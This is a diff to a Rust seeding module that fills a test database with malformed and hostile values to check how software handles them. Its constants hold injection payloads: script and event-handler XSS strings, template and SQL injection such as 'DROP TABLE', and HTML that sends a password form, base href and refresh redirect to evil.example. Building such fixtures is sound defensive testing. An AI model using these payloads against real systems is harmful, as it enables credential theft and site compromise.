@@ -1,6 +1,8 @@
 //! Rows that a real database holds and a tidy one does not: missing, null, odd and hostile values. Sown on demand only, with
 //! the sentinels. The part number says what is odd.
 
+mod documents;
+
 use std::sync::LazyLock;
 
 use base64::Engine as _;
@@ -11,17 +13,18 @@ use serde_json::{Value as Json, json};
 use time::macros::datetime;
 use uuid::Uuid;
 
-use super::catalogue::{GROUPS, PRODUCTS, eur};
-use super::seller::{CATEGORIES, COMPANIES, CURRENCIES, PRICE_TYPES, UNITS};
-use super::sentinels::{GROUP, people, sow_access, sow_address, sow_customer, sow_product};
-use super::{SeedError, Sower, ml, text, to};
-use crate::domain::value::{Ml, Reference, Value};
+use crate::domain::value::{Ml, Reference, Value, decimal_json};
+use crate::seed::catalogue::{GROUPS, PRODUCTS, eur};
+use crate::seed::seller::{CATEGORIES, COMPANIES, CURRENCIES, PRICE_TYPES, UNITS};
+use crate::seed::sentinels::{GROUP, people, sow_access, sow_address, sow_customer, sow_product};
+use crate::seed::{SeedError, Sower, ml, text, to};
 
 const PRICES: &str = "Crm_Pricing_ProductPrices";
 const PICTURES: &str = "General_Products_ProductPictures";
 
 /// Customers of the person for whom all is odd.
-pub(super) const CUSTOMERS_OF_ODD: &[&str] = &["ODD-MARKUP", "ODD-RTL", "ODD-LONG", "ODD-NULL"];
+pub(in crate::seed) const CUSTOMERS_OF_ODD: &[&str] =
+    &["ODD-MARKUP", "ODD-RTL", "ODD-LONG", "ODD-NULL"];
 
 /// Tags, attributes, schemes, entities, templates, formulas and SQL: nothing of it may come alive anywhere.
 const MARKUP: &str = "<script>alert('odd')</script><img src=x onerror=alert(1)> \"' onmouseover=\"alert(2) {{7*7}} ${7*7} =1+1 &amp;lt; '; DROP TABLE--";
@@ -31,6 +34,9 @@ const MARKUP_HTML: &str = "<p onclick=\"alert(1)\">Odd</p><script src=\"https://
 <form action=\"https://evil.example\"><input name=password></form><base href=\"https://evil.example\"><meta http-equiv=refresh content=\"0;url=https://evil.example\"></textarea></div></main>";
 /// Hebrew and Arabic, an override that turns the rest around, and a character of no width.
 const RIGHT_TO_LEFT: &str = "מנורת שולחן \u{202e}fdp.gnp مصباح\u{200b} \u{2067}123";
+
+/// As long as a name may be.
+static LONG: LazyLock<String> = LazyLock::new(|| "Щ".repeat(254));
 
 fn odd(value: Json) -> Value {
     Value::Odd(Some(value))
@@ -46,7 +52,8 @@ pub(super) fn sow(sower: &mut Sower) -> Result<(), SeedError> {
     numbers(sower)?;
     pictures(sower)?;
     belongings(sower)?;
-    customers(sower)
+    customers(sower)?;
+    documents::sow(sower)
 }
 
 /// A group that is its own parent, two that are each other's, one without any value.
@@ -135,11 +142,10 @@ fn units(sower: &mut Sower) -> Result<(), SeedError> {
 }
 
 fn texts(sower: &mut Sower) -> Result<(), SeedError> {
-    let long = |letter: &str| letter.repeat(254);
     for (number, name) in [
         ("ODD-MARKUP", ml(MARKUP, MARKUP)),
         ("ODD-RTL", ml(RIGHT_TO_LEFT, RIGHT_TO_LEFT)),
-        ("ODD-LONG", ml(&long("W"), &long("Щ"))),
+        ("ODD-LONG", ml(&"W".repeat(254), &LONG)),
         (
             "ODD-CONTROL",
             ml("Bell\u{7}, nul\u{0}, lines\r\n\r\nSet-Cookie: odd=1", "\t"),
@@ -245,7 +251,11 @@ fn numbers(sower: &mut Sower) -> Result<(), SeedError> {
     for (number, price) in [
         ("ODD-PRICE-NEGATIVE", eur(Decimal::from(-5))),
         ("ODD-PRICE-ZERO", eur(Decimal::ZERO)),
-        ("ODD-PRICE-MOST", eur(Decimal::MAX)),
+        // As it travels only: the instance's own sums stay in bounds.
+        (
+            "ODD-PRICE-MOST",
+            odd(json!({ "Value": decimal_json(Decimal::MAX), "Currency": "EUR" })),
+        ),
         ("ODD-PRICE-LEAST", eur(Decimal::new(1, 20))),
         (
             "ODD-PRICE-CURRENCY",
@@ -419,18 +429,17 @@ fn belongings(sower: &mut Sower) -> Result<(), SeedError> {
 }
 
 fn customers(sower: &mut Sower) -> Result<(), SeedError> {
-    let long = "Щ".repeat(254);
     for (number, name) in [
         ("ODD-MARKUP", ml(MARKUP, MARKUP)),
         ("ODD-RTL", ml(RIGHT_TO_LEFT, RIGHT_TO_LEFT)),
-        ("ODD-LONG", ml(&long, &long)),
+        ("ODD-LONG", ml(&LONG, &LONG)),
         ("ODD-NULL", Value::Null),
     ] {
         sow_customer(sower, number, name, Vec::new())?;
     }
     for address in [
         text(MARKUP),
-        text(&long),
+        text(&LONG),
         text("line one\r\nline two\u{0}"),
         Value::Null,
         MISSING,
